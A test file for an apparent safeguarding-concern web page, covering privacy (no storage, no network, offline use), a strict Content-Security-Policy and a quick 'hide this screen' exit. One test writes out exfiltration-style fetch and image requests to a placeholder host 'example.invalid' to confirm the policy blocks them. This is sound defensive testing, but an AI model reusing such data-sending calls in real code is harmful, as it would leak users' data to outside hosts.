// What is entered stays on this page: not in an address, not in storage, not on the network; and it can be hidden at one touch.

import assert from 'node:assert/strict'
import { describe, test } from 'node:test'
import { FINDING, assertQuiet, chooseArea, findOut, heading, openPage, pack, said, statement, toRecord, useBrowser } from './browser.mjs'

useBrowser()

const CONCERN = pack.items.find((item) => item.level === '4').id

/** Everything that this browser keeps for the page. */
const kept = (page) => page.evaluate(async () => ({
  local: { ...localStorage },
  session: { ...sessionStorage },
  cookies: document.cookie,
  databases: (await indexedDB.databases()).map((one) => one.name),
  state: JSON.stringify(history.state),
}))

describe('nothing leaves the page', () => {
  test('a whole case, on to the record, asks the own server for the page’s files and nobody for anything else', async (t) => {
    const page = await openPage(t)
    const addresses = []
    await findOut(page, { concerns: [CONCERN], visit: () => addresses.push(page.url()) })
    await toRecord(page)
    addresses.push(page.url())
    assert.deepEqual(new Set(addresses), new Set([`${page.origin}/`]))
    assertQuiet(page)
    const types = new Set(page.watched.requests.map((request) => request.resourceType()))
    for (const type of ['beacon', 'ping', 'cspviolationreport', 'eventsource', 'websocket']) assert.ok(!types.has(type), type)
  })

  test('once the page, the engine and the pack are there, nothing more is asked for, and it works with no network', async (t) => {
    const page = await openPage(t)
    await chooseArea(page)
    await page.waitForLoadState('networkidle')
    const before = page.watched.requests.length
    await page.context().setOffline(true)
    await findOut(page, { concerns: [CONCERN] })
    assert.deepEqual(page.watched.requests.slice(before).map((request) => request.url()), [])
  })

  test('nothing of the case is kept: at most which area was chosen', async (t) => {
    const page = await openPage(t)
    await findOut(page, { concerns: [CONCERN] })
    const { local, session, cookies, databases, state } = await kept(page)
    assert.deepEqual({ session, cookies, databases }, { session: {}, cookies: '', databases: [] })
    assert.ok(Object.values(local).every((value) => value === pack.area), JSON.stringify(local))
    assert.ok(!state.includes(CONCERN) && state.length < 100, state)
    assert.ok(!(await page.title()).match(/level|999|\d/i), await page.title())
    await page.reload()
    await heading(page, /where/i)
    assert.ok(!(await said(page)).includes(statement(CONCERN).text))
  })

  test('the page carries its own policy: only itself, no inline script, no eval', async (t) => {
    const page = await openPage(t)
    const policy = await page.locator('meta[http-equiv="Content-Security-Policy" i]').getAttribute('content')
    const rules = Object.fromEntries(policy.split(';').map((rule) => rule.trim().split(/\s+/)).map(([name, ...from]) => [name, from]))
    const only = (name, ...allowed) => {
      for (const source of rules[name] ?? rules['default-src']) assert.ok(allowed.includes(source), `${name} ${source}`)
    }
    only('default-src', "'none'", "'self'")
    only('script-src', "'self'", "'wasm-unsafe-eval'")
    only('style-src', "'self'")
    only('connect-src', "'self'")
    only('img-src', "'self'", 'data:')
    only('object-src', "'none'")
    only('frame-src', "'none'", "'self'")
    only('worker-src', "'self'", "'none'")
    assert.deepEqual(rules['base-uri'], ["'none'"])
    assert.deepEqual(rules['form-action'], ["'none'"])
  })

  test('the policy holds: a script that got in could send nothing out', async (t) => {
    const page = await openPage(t)
    await heading(page, /where/i)
    const outcome = await page.evaluate(async () => {
      const tried = async (what) => what().then(() => 'went out', () => 'stopped')
      return {
        fetch: await tried(() => fetch('http://example.invalid/?stolen')),
        image: await tried(() => new Promise((yes, no) => {
          const image = new Image()
          image.onload = yes
          image.onerror = no
          image.src = 'http://example.invalid/stolen.png'
        })),
        eval: await tried(async () => (0, eval)('1')),
      }
    })
    assert.deepEqual(outcome, { fetch: 'stopped', image: 'stopped', eval: 'stopped' })
    assert.ok(page.watched.errors.some((error) => error.startsWith('policy: connect-src')))
    assert.ok(page.watched.errors.some((error) => error.startsWith('policy: img-src')))
  })
})

describe('hide this screen', () => {
  const hide = {
    'by the button': (page) => page.getByRole('button', { name: /hide/i }).or(page.getByRole('link', { name: /hide/i })).first().click(),
    'by Shift three times': async (page) => {
      for (let i = 0; i < 3; i += 1) await page.keyboard.press('Shift')
    },
  }
  for (const [how, act] of Object.entries(hide)) {
    test(`${how}: shows something dull at once, and going back brings no answer`, async (t) => {
      const page = await openPage(t)
      await findOut(page, { concerns: [CONCERN] })
      await act(page)
      const gone = async () => {
        const text = await said(page)
        for (const word of [statement(CONCERN).text, 'level 4', 'safeguarding', 'doorstep', '999']) {
          assert.ok(!text.toLowerCase().includes(word.toLowerCase()), `${word} in: ${text}`)
        }
      }
      await page.getByRole('heading', { level: 1 }).filter({ hasNotText: FINDING }).waitFor()
      await page.waitForLoadState()
      await gone()
      assert.ok(!/level|safeguarding|doorstep/i.test(await page.title()), await page.title())
      assert.ok(!page.url().includes('?'))
      for (let i = 0; i < 3; i += 1) {
        await page.goBack()
        await page.waitForLoadState('networkidle')
        const text = await said(page)
        assert.ok(!text.includes(statement(CONCERN).text), text)
      }
      await heading(page, /where/i)
      assertQuiet(page)
    })
  }

  test('with no network as well', async (t) => {
    const page = await openPage(t)
    await findOut(page, { concerns: [CONCERN] })
    await page.context().setOffline(true)
    await hide['by the button'](page)
    await page.getByRole('heading', { level: 1 }).filter({ hasNotText: FINDING }).waitFor()
    const text = await said(page)
    assert.ok(text.length > 20 && !text.includes(statement(CONCERN).text), text)
  })

  test('start again clears the answers, and going back does not bring them', async (t) => {
    const page = await openPage(t)
    await findOut(page, { concerns: [CONCERN] })
    await page.getByRole('button', { name: /start again|clear/i }).first().click()
    await heading(page, /where/i)
    await page.goBack()
    await heading(page, /where/i)
    assert.ok(!(await said(page)).includes(statement(CONCERN).text))
    await findOut(page, { concerns: [] , age: null })
    assert.ok(!(await said(page)).includes(statement(CONCERN).text))
    assertQuiet(page)
  })
})
